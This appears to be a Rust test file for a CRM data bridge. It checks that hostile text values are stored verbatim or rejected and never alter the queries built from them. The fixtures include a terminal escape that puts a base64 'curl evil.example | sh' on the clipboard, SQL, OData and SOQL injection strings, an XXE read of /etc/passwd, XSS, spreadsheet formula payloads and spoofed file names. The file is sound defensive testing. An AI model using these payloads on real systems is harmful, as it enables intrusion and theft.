//! Texts a CRM's row can hold (N54 to N74): they are kept as they are or refused by name, and steer nothing.
use super::desk::{
    BOTH, Field, Sender, TEXT, arrive, arrive_as, arrive_from_both, asked_with, is_harmless, rejected, stands,
    stands_verbatim,
};
use fieldbridge::mapping::{CompareOp, Filter, Literal, TextOp};
use fieldbridge::schema::CampaignType;
use fieldbridge::schema::sheet::harmless;
use fieldbridge::text::{clean, clean_line};

#[tokio::test]
async fn n54_an_escape_that_clears_the_screen() {
    stands_verbatim("before\u{1b}[2Jafter").await;
    assert_eq!(clean_line("before\u{1b}[2Jafter"), "before␛[2Jafter", "it is seen");
}

#[tokio::test]
async fn n55_an_escape_that_sets_the_title() {
    stands_verbatim("\u{1b}]0;owned\u{7}").await;
}

#[tokio::test]
async fn n56_an_escape_that_fills_the_clipboard() {
    stands_verbatim("\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}").await;
}

#[tokio::test]
async fn n57_an_escape_that_makes_a_link() {
    stands_verbatim("\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\").await;
}

#[tokio::test]
async fn n58_strings_of_the_device_the_application_and_privacy() {
    for introducer in ["\u{1b}P", "\u{1b}_", "\u{1b}^", "\u{1b}X"] {
        stands_verbatim(&format!("{introducer}payload\u{1b}\\")).await;
    }
}

#[tokio::test]
async fn n59_a_control_of_the_second_set() {
    stands_verbatim("\u{9b}2J\u{90}x\u{9c}\u{85}").await;
}

#[tokio::test]
async fn n60_a_flood_of_bells() {
    stands_verbatim(&"\u{7}".repeat(5_000)).await;
}

#[tokio::test]
async fn n61_marks_that_turn_the_direction_of_writing() {
    stands_verbatim("invoice\u{202e}gpj.exe\u{2066}a\u{2067}b\u{2068}c\u{2069}\u{61c}").await;
    assert!(clean("a\u{202e}b").contains("RLO"), "a reader is told that something turned");
}

#[tokio::test]
async fn n62_invisible_text_of_tags() {
    let hidden: String = "ignore".chars().map(|c| char::from_u32(0xe0000 + c as u32).unwrap()).collect();
    stands_verbatim(&format!("Kim{hidden}")).await;
    assert_eq!(clean_line(&format!("Kim{hidden}")), "Kim");
}

#[tokio::test]
async fn n63_a_letter_under_two_hundred_marks() {
    let pile = format!("a{}", "\u{301}".repeat(200));
    stands_verbatim(&pile).await;
    assert!(clean_line(&pile).chars().count() <= 4);
}

#[tokio::test]
async fn n64_line_ends_of_unicode() {
    stands_verbatim("one\u{2028}two\u{2029}three\u{85}four").await;
    assert_eq!(clean_line("one\u{2028}two\u{2029}three\u{85}four"), "one two three four");
}

#[tokio::test]
async fn n65_half_a_character() {
    for broken in [r#""a\ud800b""#, r#""\udc00""#, r#""\ud83d\ud83d""#] {
        assert_eq!(arrive_from_both(&Field::text(), broken).await, rejected("bad-text"), "{broken}");
    }
}

#[tokio::test]
async fn n66_bytes_that_are_no_utf_8() {
    let shapes: [&[u8]; 4] = [b"\"a\xffb\"", b"\"\xc0\xaf\"", b"\"\xed\xa0\x80\"", b"\"\xf4\x90\x80\x80\""];
    for from in BOTH {
        for bytes in shapes {
            assert_eq!(arrive_as(from, &Field::text(), bytes).await, rejected("bad-text"), "{from:?} {bytes:?}");
        }
    }
}

#[tokio::test]
async fn n67_a_nul_in_a_text() {
    assert_eq!(arrive_from_both(&Field::text(), r#""a\u0000b""#).await, rejected("bad-text"));
}

#[tokio::test]
async fn n68_a_text_of_a_megabyte() {
    let long = "헤".repeat(350_000);
    assert!(long.len() > 1 << 20);
    let sent = serde_json::to_string(&long).unwrap();
    assert_eq!(arrive_from_both(&Field::text(), &sent).await, stands(&long));
    assert_eq!(arrive_from_both(&Field::short(255), &sent).await, rejected("too-long"), "never cut without a word");
}

#[tokio::test]
async fn n69_words_that_look_like_nothing() {
    for word in ["null", "NULL", "undefined", "", " ", "None", "NaN", "#N/A"] {
        let sent = serde_json::to_string(word).unwrap();
        assert_eq!(arrive_from_both(&Field::text(), &sent).await, stands(word));
    }
}

/// A value that would end a literal, as a value that is stored and as one that is looked for.
async fn ends_no_literal(value: &str) {
    stands_verbatim(value).await;
    for from in BOTH {
        let compare =
            Filter::Compare { field: "fullname".into(), op: CompareOp::Eq, value: Literal::Text(value.into()) };
        let asked = asked_with(from, compare).await;
        let literal = match from {
            Sender::Dynamics => format!("fullname eq '{}'", value.replace('\'', "''")),
            Sender::Salesforce => {
                format!("fullname = '{}'", value.replace('\\', "\\\\").replace('\'', "\\'"))
            }
        };
        assert!(asked.contains(&literal), "{from:?}: {literal} in {asked}");
        let rest = asked.replace(&literal, "");
        for piece in ["DROP", "1 eq 1", "Id != null"] {
            assert!(!rest.contains(piece), "{from:?}: {asked}");
        }
    }
}

#[tokio::test]
async fn n70_a_text_that_would_drop_a_table() {
    ends_no_literal("'; DROP TABLE person;--").await;
}

#[tokio::test]
async fn n71_a_text_that_would_widen_an_odata_filter() {
    ends_no_literal("' or 1 eq 1 or '").await;
}

#[tokio::test]
async fn n72_a_text_that_would_widen_a_soql_query() {
    ends_no_literal("\\' OR Id != null OR Name = \\'").await;
    let needle = "%' OR Id != null --_\\";
    let filter = Filter::Text { field: "fullname".into(), op: TextOp::Contains, needle: "50%_'".into() };
    let asked = asked_with(Sender::Salesforce, filter).await;
    assert!(asked.contains("fullname LIKE '%50\\%\\_\\'%'"), "wildcards are looked for as what they are: {asked}");
    ends_no_literal(needle).await;
}

#[tokio::test]
async fn n73_markup() {
    for markup in ["]]>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", "&#0;", "<script>alert(1)</script>"] {
        stands_verbatim(markup).await;
    }
}

#[tokio::test]
async fn n74_texts_a_spreadsheet_would_run() {
    for formula in ["=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "＠x"] {
        stands_verbatim(formula).await;
        let cell = harmless(formula);
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{cell:?}");
        is_harmless(&cell);
    }
    // A number that did not fit is handed on as a sample: made harmless in the same way.
    let fate = arrive(Sender::Dynamics, &Field::of(TEXT, CampaignType::Long), "\"=1+1\"").await;
    assert_eq!(fate, rejected("not-a-number"));
}
